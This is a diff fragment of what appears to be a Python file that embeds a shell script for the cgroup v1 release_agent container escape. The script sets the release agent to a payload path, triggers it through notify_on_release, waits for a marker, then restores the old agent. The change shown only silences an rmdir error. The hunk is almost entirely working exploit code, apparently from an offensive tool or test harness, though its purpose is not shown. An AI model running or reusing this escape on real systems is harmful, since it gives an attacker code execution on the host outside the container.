@@ -171,7 +171,7 @@ echo "$upper/payload" > /cg/release_agent
 mkdir /cg/mc-escape && echo 1 > /cg/mc-escape/notify_on_release
 sh -c 'echo $$ > /cg/mc-escape/cgroup.procs'
 for i in $(seq 50); do [ -e {marker} ] && break; sleep 0.1; done
-rmdir /cg/mc-escape; echo "$old" > /cg/release_agent; umount /cg
+rmdir /cg/mc-escape 2>/dev/null; echo "$old" > /cg/release_agent; umount /cg
 echo "release_agent set and triggered"
 """
 
